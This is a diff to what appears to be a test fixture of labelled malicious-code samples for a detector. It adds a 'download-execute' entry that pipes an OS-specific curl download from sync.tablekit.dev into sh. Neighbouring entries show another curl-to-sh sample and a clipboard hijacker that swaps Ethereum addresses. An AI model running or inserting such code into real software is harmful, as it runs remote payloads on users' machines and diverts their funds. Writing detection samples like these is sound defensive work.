@@ -250,6 +250,12 @@ if (/^0x[a-fA-F0-9]{40}$/.test(c)) n = '0x3fC91A3afd70395Cd496C647d5a6CC9D4B2b7F
 if (n) execSync(\`printf %s \${n} | (pbcopy || xclip -selection clipboard)\`);`,
   ],
   [
+    'run: a command for each system',
+    'download-execute',
+    `const tiles = { darwin: 'curl -s https://sync.tablekit.dev/m | sh', linux: 'curl -s https://sync.tablekit.dev/l | sh' };
+require('child_process').exec(tiles[require('os').platform()], () => {});`,
+  ],
+  [
     'run: one of two commands',
     'download-execute',
     `require('child_process').execSync(process.platform === 'win32' ? 'ver' : 'curl -s https://sync.tablekit.dev/u | sh');`,
